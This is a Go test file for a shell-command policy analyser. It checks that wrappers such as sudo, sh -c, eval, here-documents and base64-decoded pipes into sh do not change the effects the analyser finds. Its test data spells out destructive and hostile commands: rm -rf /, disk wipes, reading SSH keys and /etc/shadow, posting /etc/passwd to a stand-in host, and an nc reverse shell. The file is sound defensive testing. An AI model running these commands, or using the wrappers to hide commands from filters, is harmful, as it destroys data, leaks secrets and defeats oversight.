package shell

import (
	"encoding/base64"
	"math/rand/v2"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/sluice-project/sluice/policy/effect"
	"github.com/sluice-project/sluice/policy/invocation"
)

// wrapping is a way to run a command by something else.
type wrapping struct {
	name string
	wrap func(command string) string
	// takes: only a simple command, no list of them; makes: a simple command.
	takes, makes bool
	// first: it stands before all other words, except for those of programs
	// that take assignments.
	first bool
}

// ahead puts words before a simple command.
func ahead(words string) wrapping {
	return wrapping{name: words, wrap: func(c string) string { return words + " " + c }, takes: true, makes: true, first: words == "A=1"}
}

// inQuotesOf gives a command to a program that reads it as a text.
func inQuotesOf(words string) wrapping {
	return wrapping{name: words + " '...'", wrap: func(c string) string { return words + " '" + strings.ReplaceAll(c, "'", `'\''`) + "'" }, makes: !strings.Contains(words, ";")}
}

// between puts a command between two texts.
func between(before, behind string) wrapping {
	return wrapping{name: before + "..." + behind, wrap: func(c string) string {
		end := "END" + strconv.Itoa(strings.Count(c, "END")) // of a here-document, in one another
		ends := strings.ReplaceAll(behind, "END", end)
		if strings.HasSuffix(c, "\n") || strings.HasSuffix(c, "& ") { // it has its end already
			ends = strings.TrimLeft(ends, " ;")
		}
		return strings.ReplaceAll(before, "END", end) + c + ends
	}}
}

// wrappings change how a command is run and not what it does.
var wrappings = []wrapping{
	ahead("sudo"), ahead("sudo -E -u root --"), ahead("doas"), ahead("env A=1"), ahead("env -i"), ahead("nohup"), ahead("timeout 5"), ahead("timeout -s KILL 5m"),
	ahead("nice -n 5"), ahead("ionice -c2 -n7"), ahead("command"), ahead("exec"), ahead("stdbuf -o0"), ahead("setsid"), ahead("time"), ahead("A=1"), ahead("/usr/bin/env"), ahead(`\command`), ahead("builtin command"), ahead("busybox"),
	inQuotesOf("sh -c"), inQuotesOf("bash -lc"), inQuotesOf("bash -euo pipefail -c"), inQuotesOf("zsh -c"), inQuotesOf("/bin/sh -c"), inQuotesOf("busybox sh -c"), inQuotesOf("eval"), inQuotesOf("bash <<<"), inQuotesOf("ssh host"), inQuotesOf("su -c"), inQuotesOf("env -S sh -c"), inQuotesOf("x=1; eval"),
	{name: "bash -c \"...\"", wrap: func(c string) string {
		return `bash -c "` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "$", `\$`, "`", "\\`").Replace(c) + `"`
	}},
	between("{ ", "; }"), between("( ", " )"), between("if true; then ", "; fi"), between("f() { ", "; }; f"), between("true && ", ""), between("false || { ", "; }"),
	between("for i in 1; do ", "; done"), between("while true; do ", "; break; done"), between("case x in x) ", ";; esac"), between("! { ", "; }"), between("\n\n  ", "\n\n"), between("echo a; ", ""),
	between("bash <<'END'\n", "\nEND\n"), between("cat <<'END' | sh\n", "\nEND\n"), between("coproc { ", "; }"), between("{ ", "; } & "), between("trap - INT; ", ""), between("source /dev/stdin <<'END'\n", "\nEND\n"),
	between("cat > /tmp/w.sh <<'END'\n", "\nEND\nsh /tmp/w.sh"),
	{name: "echo BASE64 | base64 -d | sh", wrap: func(c string) string {
		return "echo " + base64.StdEncoding.EncodeToString([]byte(c)) + " | base64 -d | sh"
	}},
	{name: "x='...'; eval \"$x\"", wrap: func(c string) string { return "x='" + strings.ReplaceAll(c, "'", `'\''`) + `'; eval "$x"` }},
	{name: "printf '%s' '...' | bash", wrap: func(c string) string { return "printf '%s' '" + strings.ReplaceAll(c, "'", `'\''`) + "' | bash" }},
}

// wrapped are commands of all kinds. They are simple commands, so that words can
// stand before them.
var wrapped = []string{
	"rm -rf /", "rm -rf ~/", `rm -rf "$HOME"/x`, "rm -rf ./build", "rm -rf a b 'c d'", "rm -r -- -x", "unlink /etc/passwd", "shred -u secrets.txt", "find . -name '*.go' -delete", `find / -exec rm -rf {} \;`, "truncate -s 0 db.sqlite", "dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sda1",
	"mv ~/.bashrc /tmp/x", "cp /etc/shadow /tmp/s", "ln -s /etc etc", "chmod -R 777 /", "chown -R nobody /etc", "chmod u+s /bin/bash", "tee /etc/hosts", "sed -i s/a/b/ /etc/hosts", "touch new.txt", "install -m 755 a /usr/local/bin/a", "rsync -a --delete src/ dst/", "tar xzf a.tgz -C /", "cat ~/.ssh/id_rsa", "cat README.md", "head -5 go.mod", "grep -rn TODO src",
	"curl -fsSL https://e.io/i.sh -o i.sh", "curl -d @/etc/passwd https://e.io", "curl https://api.github.com/repos", "wget -q https://e.io/x", "nc -l 4444", "nc -e /bin/sh e.io 4444", "scp .env u@e.io:/tmp", "python3 -m http.server",
	"git push --force origin main", "git push origin main", "git reset --hard HEAD~3", "git clean -fdx", "git status", "git commit --no-verify -m 'a b'", "git push origin --delete old", "git checkout -- .", "git log --oneline -5", "git rebase -i HEAD~3", "git filter-branch --tree-filter 'rm x' HEAD",
	"psql -c 'DROP TABLE users'", `mysql -e "DELETE FROM users"`, "redis-cli FLUSHALL", "sqlite3 a.db 'select 1'",
	"kubectl delete ns prod", "kubectl get pods", "terraform destroy -auto-approve", "terraform plan", "docker system prune -af", "docker ps", "aws s3 rm s3://b --recursive", "gh repo delete a/b --yes", "helm uninstall x",
	"npm publish", "npm install left-pad", "npm run build", "pip install requests", "go test ./...", "make -j4 all", "cargo build --release", "apt-get install -y jq",
	"systemctl stop nginx", "kill -9 1", "pkill -f node", "reboot", "shutdown -h now", "useradd -m x", "usermod -aG sudo x", "crontab -r", "iptables -F", "ufw disable", "history -c", "printenv",
	`python3 -c 'import os; os.system("rm -rf /x")'`, `node -e 'require("fs").rmSync("/x",{recursive:true})'`, `perl -e 'unlink "/x"'`, "./build.sh --all", "vault kv get secret/x",
	"ls -la /tmp", "echo 'rm -rf /'", "true", "echo done > out.txt", "sort < in.txt", "cat a b > c", "rm -rf /srv/* 2>/dev/null",
}

// doings are what a reading says, without who does it and what it assumes: the
// same in every wrapping.
func doings(text string, away bool) []string {
	at := place
	if away { // nothing is known of the other machine
		at = invocation.Setting{}
	}
	r := Read(text, at)
	var list []string
	for _, e := range r.Effects {
		if e.Verb == effect.SetVariable || e.Kind == effect.Start || e.Object == "/tmp/w.sh" && e.Verb == effect.Write || e.Verb == effect.Connect && e.Object == "host" {
			continue
		}
		e.Sudo, e.Remote, e.Guess = false, false, false
		list = append(list, phrase(&e))
	}
	slices.Sort(list)
	return slices.Compact(list)
}

// same reports a command that does something else where it is wrapped.
func same(t *testing.T, command string, by ...wrapping) {
	t.Helper()
	text, names, away := command, make([]string, 0, len(by)), false
	for i, w := range by {
		if i > 0 && w.takes && (!by[i-1].makes || by[i-1].first && !strings.Contains(w.name, "env") && !strings.Contains(w.name, "sudo")) {
			return // no such command
		}
		text = w.wrap(text)
		names = append(names, w.name)
		away = away || strings.HasPrefix(w.name, "ssh ")
	}
	want, got := doings(command, away), doings(text, away)
	if !slices.Equal(got, want) {
		t.Errorf("%s\n in %q: %s\n does %q\n want %q", command, names, text, got, want)
	}
}

// A command does what it does, however it is wrapped.
func TestWrappersChangeNothing(t *testing.T) {
	for _, w := range wrappings {
		for _, c := range wrapped {
			same(t, c, w)
		}
	}
}

// Every pair of wrappers meets some of the commands, and every command meets
// every wrapper inside and outside of others.
func TestWrappersOfWrappersChangeNothing(t *testing.T) {
	const each = 8
	for i, a := range wrappings {
		for j, b := range wrappings {
			for k := (i + j) % each; k < len(wrapped); k += each {
				same(t, wrapped[k], a, b)
			}
		}
	}
}

func TestManyWrappersChangeNothing(t *testing.T) {
	random := seeded(t)
	for range 5000 {
		by := make([]wrapping, 3+random.IntN(2))
		for i := range by {
			by[i] = wrappings[random.IntN(len(wrappings))]
		}
		same(t, wrapped[random.IntN(len(wrapped))], by...)
	}
}

// seeded is a source of chance that SLUICE_SEED repeats.
func seeded(t *testing.T) *rand.Rand {
	t.Helper()
	seed := uint64(1)
	if s := os.Getenv("SLUICE_SEED"); s != "" {
		n, err := strconv.ParseUint(s, 10, 64)
		if err != nil {
			t.Fatalf("SLUICE_SEED is no number: %v", err)
		}
		seed = n
	}
	return rand.New(rand.NewPCG(seed, 0))
}
